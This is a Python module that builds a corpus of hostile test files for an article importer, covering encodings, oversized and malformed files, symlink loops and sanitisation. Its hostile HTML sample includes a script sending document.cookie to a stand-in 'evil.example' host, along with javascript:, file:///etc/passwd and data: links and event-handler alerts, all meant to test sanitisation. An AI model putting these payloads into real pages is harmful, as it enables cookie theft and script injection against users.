"""A hostile-input corpus, generated into a folder (never committed: some cases are large).

Each `Case` is one file (or folder) a user might drop on the window, and what
Palimpsest should make of it: `ARTICLE` (read, with `contains` in its text),
`REFUSED` (a `LoadError` whose reason holds `reason`), or `EITHER` (no promise
on the outcome, only that it is clean: an article, or a refusal with a reason).

The cases that need the file system to misbehave (an unreadable file, a file
that vanishes mid-import) are plain files here; the tests make them misbehave.
"""

from __future__ import annotations

import codecs
import os
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ARTICLE = "article"
REFUSED = "refused"
EITHER = "either"

#: Every remote or local address a hostile page points at; none may be fetched.
HOSTILE_HOSTS = ("evil.example", "tracker.example", "cdn.example", "fonts.example", "frame.example")

RUSSIAN = ("Москва, 15 января. Президент заявил, что Россия готова восстановить отношения с Европой. "
           "«Мы открыты к диалогу», — сказал он журналистам в Кремле.")
ENGLISH = ("Brussels, 15 January. The minister said talks would resume next week. "
           "\u201cWe are ready,\u201d she told reporters on Thursday.")

HOSTILE_HTML = f"""<!DOCTYPE html>
<html><head><title>Hostile page title</title>
<base href="http://news.example/world/">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<link rel="stylesheet" href="http://cdn.example/site.css">
<link rel="preload" href="http://cdn.example/font.woff2" as="font">
<style>@import url("http://cdn.example/import.css");
body {{ background: url(http://tracker.example/bg.png); }}
@font-face {{ font-family: x; src: url(http://fonts.example/x.woff); }}</style>
<script src="http://evil.example/a.js"></script>
<script>document.location = "http://evil.example/steal?c=" + document.cookie;</script>
</head><body onload="alert('onload')">
<article>
<h1 onclick="alert(1)">Hostile page title</h1>
<p onmouseover="alert(2)">{ENGLISH} First paragraph of the hostile article with enough words to count
as an article for the extractor, which wants a few sentences before it believes anything.</p>
<p>Second paragraph: <a href="javascript:alert(3)">a javascript link</a>, <a href="file:///etc/passwd">a
file link</a>, <a href="http://example.org/ok">a web link</a> and <a href="data:text/html,<script>alert(4)</script>">a
data link</a>. <img src="http://tracker.example/pixel.gif" onerror="alert(5)"> The minister added that nothing
would change before the summit.</p>
<iframe src="http://frame.example/embed"></iframe>
<object data="http://evil.example/flash.swf"><embed src="http://evil.example/flash.swf"></object>
<svg onload="alert(6)"><image href="http://evil.example/svg.png"/></svg>
<form action="http://evil.example/post"><input name="q" onfocus="alert(7)" autofocus></form>
<p style="background-image: url('http://tracker.example/inline.png')">Third paragraph, styled with a
remote background, about the budget talks that ended without agreement late on Wednesday night.</p>
<video src="http://cdn.example/v.mp4" poster="http://cdn.example/p.jpg"></video>
<p><img srcset="http://cdn.example/a.png 1x, http://cdn.example/b.png 2x"> Fourth paragraph: the talks
will resume on Monday, the spokesman said, and a statement is expected at noon.</p>
</article>
<script>alert('tail')</script>
</body></html>
"""

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HOSTILE_MARKDOWN = f"""# Markdown with raw HTML

{ENGLISH}

<script>alert("md")</script>
<div onclick="alert(1)">A div with a handler, and text inside it that should read as text.</div>
<iframe src="http://frame.example/md"></iframe>

![pixel](data:image/png;base64,{PIXEL}) and ![remote](http://tracker.example/md.png)
<img src="data:image/png;base64,{PIXEL}"> <img src="http://tracker.example/raw.png">

[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==),
[a javascript link](javascript:alert(2)), [a file link](file:///etc/passwd),
[a web link](https://example.org/md) and <a href="JaVaScRiPt:alert(3)">mixed case</a>.

<style>body {{ background: url(http://tracker.example/md-bg.png) }}</style>
<object data="http://evil.example/md.swf"></object>

> A quotation block: "We will not give in," the spokesman said.
"""


@dataclass(frozen=True)
class Case:
    """One hostile input: where it is and what reading it should give."""

    name: str
    path: Path
    expect: str
    reason: str = ""  # a word the refusal's reason must hold (REFUSED)
    contains: str = ""  # a phrase the article's text must hold (ARTICLE)
    folder: bool = False  # a folder to import, not a file to read


def _write(folder: Path, name: str | bytes, data: bytes) -> Path:
    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), os.fsencode(name))))
    path.write_bytes(data)
    return path


def _prose(rng: random.Random, words: int) -> str:
    # No date words: a 5 MB line of dates is a test of the date finder's speed (stress), not of size.
    vocabulary = ("the", "talks", "minister", "said", "budget", "on", "and", "of", "summit",
                  "agreement", "reporters", "government", "in", "a", "would", "not")
    return " ".join(rng.choice(vocabulary) for _ in range(words))


def empty(folder: Path) -> Case:
    """A file of no bytes."""
    return Case("empty", _write(folder, "empty.txt", b""), REFUSED, reason="empty")


def blank(folder: Path) -> Case:
    """Only whitespace, in every kind."""
    return Case("blank", _write(folder, "blank.txt", b" \t\r\n\x0c\n  \r\n" * 50), REFUSED, reason="empty")


def binary_junk(folder: Path) -> Case:
    """Random bytes, as a file named like an article."""
    data = random.Random(1).randbytes(200_000)
    return Case("binary_junk", _write(folder, "junk.html", data), REFUSED, reason="binary")


def nul_bytes(folder: Path) -> Case:
    """Text with NUL bytes scattered in it (a damaged download)."""
    text = (ENGLISH + "\n\n") * 40
    data = bytearray(text.encode("utf-8"))
    for i in range(100, len(data), 997):
        data[i] = 0
    return Case("nul_bytes", _write(folder, "nul.txt", bytes(data)), REFUSED, reason="binary")


def big_text(folder: Path, megabytes: int = 100) -> Case:
    """A text file of `megabytes` MB, written in chunks (stress only at 100 MB)."""
    path = folder / f"big-{megabytes}mb.txt"
    chunk = ((ENGLISH + "\n\n") * 2000).encode("utf-8")
    with open(path, "wb") as handle:
        written = 0
        while written < megabytes * 1024 * 1024:
            handle.write(chunk)
            written += len(chunk)
    return Case(f"big_{megabytes}mb", path, REFUSED, reason="over the limit")


def long_line(folder: Path, megabytes: int = 5) -> Case:
    """One line of `megabytes` MB of words, no line break anywhere."""
    rng = random.Random(5)
    words = []
    size = 0
    while size < megabytes * 1024 * 1024:
        word = _prose(rng, 1)
        words.append(word)
        size += len(word) + 1
    data = ("The long line begins here. " + " ".join(words)).encode("utf-8")
    return Case("long_line", _write(folder, "long-line.txt", data), ARTICLE,
                contains="The long line begins here.")


def invalid_utf8(folder: Path) -> Case:
    """UTF-8 prose with stray invalid bytes (a truncated sequence, lone continuation bytes)."""
    data = (RUSSIAN + "\n\n" + ENGLISH + "\n\n").encode("utf-8") * 5
    data = data[:300] + b"\xc3\x28 \xa0\xa1 \xe2\x82 \xff" + data[300:]
    return Case("invalid_utf8", _write(folder, "invalid-utf8.txt", data), EITHER)


def utf16_bom(folder: Path) -> Case:
    """UTF-16 little-endian with a byte-order mark."""
    data = codecs.BOM_UTF16_LE + ((RUSSIAN + "\r\n\r\n" + ENGLISH) * 3).encode("utf-16-le")
    return Case("utf16_bom", _write(folder, "utf16-bom.txt", data), ARTICLE, contains="Москва, 15 января.")


def utf16_no_bom(folder: Path) -> Case:
    """UTF-16 little-endian without a byte-order mark."""
    data = ((ENGLISH + "\n\n" + RUSSIAN + "\n\n") * 3).encode("utf-16-le")
    return Case("utf16_no_bom", _write(folder, "utf16-nobom.txt", data), ARTICLE,
                contains="The minister said talks would resume next week.")


def utf16_be_no_bom(folder: Path) -> Case:
    """UTF-16 big-endian without a byte-order mark."""
    data = ((ENGLISH + "\n\n" + RUSSIAN + "\n\n") * 3).encode("utf-16-be")
    return Case("utf16_be_no_bom", _write(folder, "utf16be-nobom.txt", data), ARTICLE,
                contains="The minister said talks would resume next week.")


def cp1251(folder: Path) -> Case:
    """Russian in Windows-1251, with Windows line endings."""
    text = "\r\n\r\n".join([RUSSIAN, "Второй абзац: переговоры продолжатся в понедельник.", RUSSIAN[:80]])
    return Case("cp1251", _write(folder, "russian-1251.txt", text.encode("cp1251")), ARTICLE,
                contains="Второй абзац: переговоры продолжатся в понедельник.")


def mixed_line_endings(folder: Path) -> Case:
    """CRLF, LF, CR, and Unicode line and paragraph separators in one file."""
    text = ("First paragraph line one\r\ncontinues here.\r\n\r\nSecond paragraph.\n\nThird paragraph.\r\r"
            "Fourth paragraph.\n\r\nFifth\u2028paragraph.\u2029Sixth paragraph.\x85Seventh.\r\n")
    return Case("mixed_line_endings", _write(folder, "mixed-eol.txt", text.encode("utf-8")), ARTICLE,
                contains="Sixth paragraph.")


def tiny_paragraphs(folder: Path, count: int = 10_000) -> Case:
    """`count` paragraphs of a few words each."""
    text = "\n\n".join(f"Paragraph {i} says {i % 7} things." for i in range(count))
    return Case("tiny_paragraphs", _write(folder, "tiny-paragraphs.txt", text.encode("utf-8")), ARTICLE,
                contains=f"Paragraph {count - 1} says")


def deep_html(folder: Path, depth: int = 10_000) -> Case:
    """HTML nested `depth` elements deep around a paragraph of text."""
    page = ("<!DOCTYPE html><html><head><title>Deep page</title></head><body>"
            + "<div>" * depth + "<p>Deep inside the page the minister said talks would resume.</p>"
            + "</div>" * depth + "<p>After the depths, a last paragraph.</p></body></html>")
    return Case("deep_html", _write(folder, "deep.html", page.encode("utf-8")), EITHER)


def deep_html_unclosed(folder: Path, depth: int = 10_000) -> Case:
    """HTML with `depth` unclosed inline elements (a parser's worst case)."""
    page = "<html><body><p>" + "<b><i>" * (depth // 2) + "Unclosed depths of the page, said the minister."
    return Case("deep_html_unclosed", _write(folder, "deep-unclosed.html", page.encode("utf-8")), EITHER)


def hostile_html(folder: Path) -> Case:
    """Scripts, frames, objects, handlers, javascript:/file:/data: links, remote images and CSS."""
    return Case("hostile_html", _write(folder, "hostile.html", HOSTILE_HTML.encode("utf-8")), ARTICLE,
                contains="Fourth paragraph: the talks")


def hostile_markdown(folder: Path) -> Case:
    """Markdown with raw HTML, data URIs and hostile links."""
    return Case("hostile_markdown", _write(folder, "hostile.md", HOSTILE_MARKDOWN.encode("utf-8")), ARTICLE,
                contains="A div with a handler")


def hostile_html_as_txt(folder: Path) -> Case:
    """The hostile page saved as .txt: the content decides, and it is sanitised the same."""
    return Case("hostile_html_as_txt", _write(folder, "hostile-page.txt", HOSTILE_HTML.encode("utf-8")),
                ARTICLE, contains="Fourth paragraph: the talks")


def odd_name(folder: Path) -> Case:
    """A file whose name holds a newline, a tab and bytes that are not UTF-8."""
    name = b"bad\nname\twith \xff\xfe bytes \xe9t\xe9.txt"
    text = f"{ENGLISH}\n\nA file with an odd name is still an article.\n"
    return Case("odd_name", _write(folder, name, text.encode("utf-8")), ARTICLE,
                contains="A file with an odd name is still an article.")


def control_chars(folder: Path) -> Case:
    """Text with escape sequences, bidi overrides and zero-width characters."""
    text = (f"{ENGLISH}\n\nTerminal \x1b[31mred\x1b[0m and bell\x07. Bidi \u202ereversed\u202c, "
            "zero\u200bwidth, BOM\ufeffinside, noncharacter \ufffe\uffff, and \U0010ffff.\n")
    return Case("control_chars", _write(folder, "control.txt", text.encode("utf-8")), EITHER)


def unreadable(folder: Path) -> Case:
    """A file the operating system refuses to read (the tests make it so)."""
    return Case("unreadable", _write(folder, "unreadable.txt", ENGLISH.encode("utf-8")), REFUSED,
                reason="permission")


def symlink_loop(folder: Path) -> Case:
    """A folder holding an article and a link to its own parent (a loop), and a self-link."""
    root = folder / "loop"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "inside.txt").write_text(f"{RUSSIAN}\n\nInside the looping folder.\n", "utf-8")
    os.symlink(root, root / "sub" / "up")
    os.symlink(root / "self.txt", root / "self.txt")
    return Case("symlink_loop", root, ARTICLE, contains="Inside the looping folder.", folder=True)


def fifo(folder: Path) -> Case:
    """A named pipe called like an article: opening it for reading waits for a writer."""
    path = folder / "pipe.txt"
    os.mkfifo(path)
    return Case("fifo", path, REFUSED, reason="not a regular file")


def vanishing(folder: Path) -> Case:
    """A file that is deleted between the listing and the reading (the tests delete it)."""
    return Case("vanishing", _write(folder, "vanishing.txt", ENGLISH.encode("utf-8")), REFUSED,
                reason="does not exist")


#: The fast cases, every one cheap enough for `make test`.
FAST: tuple[Callable[[Path], Case], ...] = (
    empty, blank, binary_junk, nul_bytes, long_line, invalid_utf8, utf16_bom, utf16_no_bom, utf16_be_no_bom,
    cp1251, mixed_line_endings, tiny_paragraphs, deep_html, deep_html_unclosed, hostile_html,
    hostile_markdown, hostile_html_as_txt, odd_name, control_chars, unreadable, symlink_loop, fifo, vanishing,
)


def build(folder: Path, makers: tuple[Callable[[Path], Case], ...] = FAST) -> dict[str, Case]:
    """Generate the cases into `folder` (one sub-folder each); returns them by name."""
    cases = {}
    for make in makers:
        where = folder / make.__name__
        where.mkdir(parents=True)
        case = make(where)
        cases[case.name] = case
    return cases
